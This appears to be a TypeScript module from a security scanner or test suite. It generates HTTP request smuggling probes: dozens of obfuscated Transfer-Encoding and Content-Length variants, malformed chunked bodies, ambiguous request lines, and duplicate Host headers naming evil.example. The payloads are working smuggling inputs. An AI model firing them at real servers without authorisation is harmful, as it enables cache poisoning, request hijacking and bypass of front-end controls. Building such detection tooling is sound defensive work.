/** A request that two servers might read differently (SEC15). */
export interface SmugglingCase {
  readonly name: string;
  readonly bytes: Buffer;
}

/** The addresses that requests of a case name: each answer then says which of them it is for (a redirect to it). */
export interface Marks {
  readonly host: string;
  /** Ends in a slash, like the others: it leads to the same address without it. */
  readonly carrier: string;
  /** What is hidden in the body of the carrier. */
  readonly hidden: string;
}

/** Ways to write `Transfer-Encoding: chunked` so that one server may see it and another not. */
const obfuscated = [
  'Transfer-Encoding: chunked',
  'Transfer-Encoding: xchunked',
  'Transfer-Encoding : chunked',
  'Transfer-Encoding:\tchunked',
  'Transfer-Encoding:\x0bchunked',
  'Transfer-Encoding: chunked\r\nTransfer-Encoding: x',
  'Transfer-Encoding: x\r\nTransfer-Encoding: chunked',
  'Transfer-Encoding: identity, chunked',
  'Transfer-Encoding: chunked, identity',
  'Transfer-Encoding: chunked;q=1',
  'Transfer-Encoding: "chunked"',
  'Transfer-Encoding: CHUNKED',
  'Transfer-Encoding: chunKed\0',
  'Transfer-Encoding:\r\n chunked',
  ' Transfer-Encoding: chunked',
  'X: x\nTransfer-Encoding: chunked',
  'X: x\rTransfer-Encoding: chunked',
  'X: x\r\n\tTransfer-Encoding: chunked',
  'Transfer\xadEncoding: chunked',
  'Transfer_Encoding: chunked',
  'Transfer-Encoding\0: chunked',
  'Content-Encoding: chunked',
  'TE: chunked',
  'Connection: Transfer-Encoding\r\nTransfer-Encoding: chunked',
];

/** Lengths that are no number, or more than one; `N` stands for the right one. */
const lengths = [
  'Content-Length: N\r\nContent-Length: 0',
  'Content-Length: 0\r\nContent-Length: N',
  'Content-Length: N\r\nContent-Length: N',
  'Content-Length: N, N',
  'Content-Length: 0, N',
  'Content-Length: +N',
  'Content-Length: -N',
  'Content-Length: 0xN',
  'Content-Length: 0N',
  'Content-Length: N ',
  'Content-Length: N.0',
  'Content-Length: Ne0',
  'Content-Length:\x0bN',
  'Content-Length : N',
  ' Content-Length: N',
  'Content-Length:\r\n N',
  'Content-Length: 18446744073709551616',
  'Content-Length: 99999999999999999999999N',
  'Content-Length: N\0',
  'Content_Length: N',
  'Connection: Content-Length\r\nContent-Length: N',
  'X: x\nContent-Length: N',
  'X: x\rContent-Length: N',
];

/** Chunked bodies that are none, or end where only some servers think so; `B` stands for the hidden request. */
const bodies = [
  '0\r\n\r\nB',
  '0\n\nB',
  '0\r\nX: x\r\n\r\nB',
  '0;ext="\r\n\r\nB',
  '00000000000000000000\r\n\r\nB',
  '-0\r\n\r\nB',
  '+0\r\n\r\nB',
  '0x0\r\n\r\nB',
  ' 0\r\n\r\nB',
  '0 \r\n\r\nB',
  '5g\r\nhello\r\n0\r\n\r\nB',
  '5;a=b\nhello\r\n0\r\n\r\nB',
  '5;\rx\r\nhello\r\n0\r\n\r\nB',
  '5\rhello\r\n0\r\n\r\nB',
  '5\r\nhelloXX0\r\n\r\nB',
  '4\r\nhello\r\n0\r\n\r\nB',
  '6\r\nhello\r\n0\r\n\r\nB',
  'fffffffffffffffff\r\nhello\r\n0\r\n\r\nB',
  '10000000000000005\r\nhello\r\n0\r\n\r\nB',
  '\r\n0\r\n\r\nB',
  '\r\n\r\nB',
  'B',
];

/** Heads that are read in more than one way; `H` stands for the host, `C` for the address, `B` for the hidden request. */
const heads = [
  'GET C HTTP/1.1\nHost: H\n\nB',
  'GET C HTTP/1.1\r\nHost: H\n\r\nB',
  'GET C HTTP/1.1\r\nHost: H\r\nX: x\n\nB',
  'GET C HTTP/1.1\r\nHost: H\r\nX: x\r\rB',
  'GET C HTTP/1.1\r\nHost: H\r\n X: folded\r\n\r\nB',
  'GET C HTTP/1.1\r\nHost: H\r\nX : x\r\n\r\nB',
  'GET C HTTP/1.1\r\nHost: H\r\n: x\r\n\r\nB',
  'GET C HTTP/1.1\r\nHost: H\r\nX\r\n\r\nB',
  'GET C HTTP/1.1\r\nHost: H\r\nX\0: x\r\n\r\nB',
  'GET C HTTP/1.1\r\nHost: H\r\nHost: evil.example\r\n\r\nB',
  'GET C HTTP/1.1\r\nHost: evil.example\r\nHost: H\r\n\r\nB',
  'GET http://evil.exampleC HTTP/1.1\r\nHost: H\r\n\r\nB',
  'GET C HTTP/1.1\r\nHost: H\r\nUpgrade: h2c\r\nConnection: Upgrade, HTTP2-Settings\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\n\r\nB',
  'GET C HTTP/1.1\r\nHost: H\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Version: 777\r\n\r\nB',
  'GET C HTTP/1.1\r\nHost: H\r\nExpect: 100-continue\r\nContent-Length: 9\r\n\r\nB',
  'GET C HTTP/1.1\r\nHost: H\r\nExpect: x\r\n\r\nB',
  '\r\n\r\nGET C HTTP/1.1\r\nHost: H\r\n\r\nB',
  'GET C HTTP/1.0\r\nHost: H\r\nConnection: keep-alive\r\n\r\nB',
  'GET C HTTP/1.0\r\nHost: H\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nB',
  'GET C HTTP/0.9\r\nHost: H\r\n\r\nB',
  'GET C HTTP/1.2\r\nHost: H\r\n\r\nB',
  'GET C HTTP/2.0\r\nHost: H\r\n\r\nB',
  'GET C http/1.1\r\nHost: H\r\n\r\nB',
  'GET  C HTTP/1.1\r\nHost: H\r\n\r\nB',
  'GET\tC\tHTTP/1.1\r\nHost: H\r\n\r\nB',
  'GET C HTTP/1.1 \r\nHost: H\r\n\r\nB',
  'GET C x HTTP/1.1\r\nHost: H\r\n\r\nB',
  'GET C%0d%0aHost:%20x HTTP/1.1\r\nHost: H\r\n\r\nB',
  'GET C\rX HTTP/1.1\r\nHost: H\r\n\r\nB',
  'GET C\0 HTTP/1.1\r\nHost: H\r\n\r\nB',
  'HEAD C HTTP/1.1\r\nHost: H\r\nContent-Length: 5\r\n\r\nhelloB',
  'CONNECT H:443 HTTP/1.1\r\nHost: H\r\n\r\nB',
];

const methods = ['GET', 'POST', 'DELETE', 'OPTIONS'] as const;

/** Every case for one host, each with marks of its own. */
export function smugglingCases(marksOf: (index: number) => Marks): readonly SmugglingCase[] {
  const cases: SmugglingCase[] = [];
  const add = (name: string, make: (marks: Marks & { readonly request: string }) => string) => {
    const marks = marksOf(cases.length);
    const request = `GET ${marks.hidden} HTTP/1.1\r\nHost: ${marks.host}\r\nX-Rest: `;
    cases.push({ name, bytes: Buffer.from(make({ ...marks, request }), 'latin1') });
  };
  const head = (method: string, { carrier, host }: Marks) =>
    `${method} ${carrier} HTTP/1.1\r\nHost: ${host}\r\n`;
  for (const method of methods) {
    for (const way of obfuscated) {
      // The length ends after the chunks' end, the chunks before the hidden request; and the other way round.
      add(`CL.TE ${method} ${way}`, (marks) => {
        const body = `0\r\n\r\n${marks.request}`;
        return `${head(method, marks)}Content-Length: ${body.length}\r\n${way}\r\n\r\n${body}`;
      });
      add(`TE.CL ${method} ${way}`, (marks) => {
        const hidden = `${marks.request}\r\n\r\n`;
        const size = hidden.length.toString(16);
        return `${head(method, marks)}${way}\r\nContent-Length: ${size.length + 2}\r\n\r\n${size}\r\n${hidden}\r\n0\r\n\r\n`;
      });
    }
    for (const body of bodies)
      add(`chunks ${method} ${body}`, (marks) => {
        const request = `${marks.request}\r\n\r\n`;
        return `${head(method, marks)}Transfer-Encoding: chunked\r\n\r\n${body.replace('B', request)}`;
      });
    for (const length of lengths)
      add(`length ${method} ${length}`, (marks) => {
        const request = `${marks.request}\r\n\r\n`;
        return `${head(method, marks)}${length.replaceAll('N', String(request.length))}\r\n\r\n${request}`;
      });
  }
  for (const line of heads)
    add(`head ${line}`, ({ host, carrier, request }) =>
      line
        .replace('H\r', `${host}\r`)
        .replace('H\n', `${host}\n`)
        .replace(/(?<=[ \t]|example)C(?=[ \t\r%\0])/, carrier)
        .replace('B', `${request}\r\n\r\n`),
    );
  return cases;
}
